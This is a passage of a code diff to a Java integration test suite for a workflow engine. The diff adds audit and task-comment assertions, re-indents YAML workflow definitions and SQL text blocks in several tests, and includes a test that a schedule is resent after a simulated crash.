+                .until(() -> api.list("/v1/audit?source=process").stream()
+                                .filter(row -> row.path("subject").asText().equals(id)
+                                        && row.path("action").asText().equals(action)
+                                        && row.path("comment").asText().equals("as agreed"))
+                                .count()
+                        == 1);
+        boolean ends = List.of("cancel", "skip").contains(action);
+        assertEquals(
+                ends ? "as agreed" : "null",
+                tasks(id).stream()
+                        .filter(row -> row.path("id").asText().equals(task))
+                        .findFirst()
+                        .orElseThrow()
+                        .path("comment")
+                        .asText());
+        assertEquals(
+                400,
+                api.post(process + "/cancel", Map.of("reason", "x".repeat(2_001)))
+                        .status());
     }
 
     /** The first example of docs/workflows.md. */
@@ -1439,10 +1547,10 @@ class WorkflowsIT {
     void worklistHasConfiguredColumnsAndTakesNoTasksIfInactive() {
         // Given
         given("listed", """
-                do:
-                  - check:
-                      ask: { prompt: '${ .p }', priority: '${ .n }', assignment: { roleId: judge, categoryCode: cases } }
-                """);
+            do:
+              - check:
+                  ask: { prompt: '${ .p }', priority: '${ .n }', assignment: { roleId: judge, categoryCode: cases } }
+            """);
         for (int n : new int[] {1, 5, 3}) {
             api.post("/v1/workflows/test:listed/instances", Map.of("input", Map.of("n", n, "p", "Case " + n)));
         }
@@ -1540,10 +1648,10 @@ class WorkflowsIT {
     void turnStartsShowsAndSignalsAWorkflow() {
         // Given
         given("ofTurn", """
-                do:
-                  - hear: { listen: { to: { one: { with: { type: test.fromTurn } } } } }
-                  - end: { set: { heard: '${ .[0].n }' } }
-                """);
+            do:
+              - hear: { listen: { to: { one: { with: { type: test.fromTurn } } } } }
+              - end: { set: { heard: '${ .[0].n }' } }
+            """);
 
         // When
         String started = api.say(
@@ -1600,9 +1708,9 @@ class WorkflowsIT {
     void startsProcessesByEventAndAfterThePreviousOne() {
         // Given
         given("onPaid", """
-                schedule: { on: { one: { with: { type: test.order } } } }
-                do: [ { end: { set: { n: '${ .[0].data.n }' } } } ]
-                """);
+            schedule: { on: { one: { with: { type: test.order } } } }
+            do: [ { end: { set: { n: '${ .[0].data.n }' } } } ]
+            """);
         given("chain", "schedule: { after: PT0.2S }\ndo: [ { end: { set: { n: 1 } } } ]\n");
 
         // When
@@ -1646,9 +1754,9 @@ class WorkflowsIT {
         // Given
         List<String> names = IntStream.range(0, 8).mapToObj(i -> "race" + i).toList();
         String schedule = """
-                schedule: { on: { one: { with: { type: test.race } } } }
-                do: [ { end: { set: { n: 1 } } } ]
-                """;
+            schedule: { on: { one: { with: { type: test.race } } } }
+            do: [ { end: { set: { n: 1 } } } ]
+            """;
 
         // When
         try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
@@ -1678,23 +1786,23 @@ class WorkflowsIT {
     void unconfirmedScheduleIsSentAgain() {
         // Given
         given("unconfirmed", """
-                schedule: { on: { one: { with: { type: test.unconfirmed } } } }
-                do: [ { end: { set: { n: 1 } } } ]
-                """);
+            schedule: { on: { one: { with: { type: test.unconfirmed } } } }
+            do: [ { end: { set: { n: 1 } } } ]
+            """);
         Database database = instance.beans().getBean(Database.class);
 
         // When: as if the server had been killed before it knew of the schedule's reply
         database.in(Tenant.ALL, transaction -> transaction.update("""
-                UPDATE workflows.wf_definition_t SET confirmed = 0, update_ts = now() - interval '1 hour'
-                WHERE name = 'unconfirmed'
-                """));
+            UPDATE workflows.wf_definition_t SET confirmed = 0, update_ts = now() - interval '1 hour'
+            WHERE name = 'unconfirmed'
+            """));
 
         // Then
         Awaitility.await()
                 .atMost(SOON)
                 .until(() -> database.in(Tenant.ALL, transaction -> transaction.query("""
-                        SELECT 1 FROM workflows.wf_definition_t WHERE name = 'unconfirmed' AND confirmed = revision
-                        """, row -> row.next())));
+                    SELECT 1 FROM workflows.wf_definition_t WHERE name = 'unconfirmed' AND confirmed = revision
+                    """, row -> row.next())));
     }
 
     // ---- projects
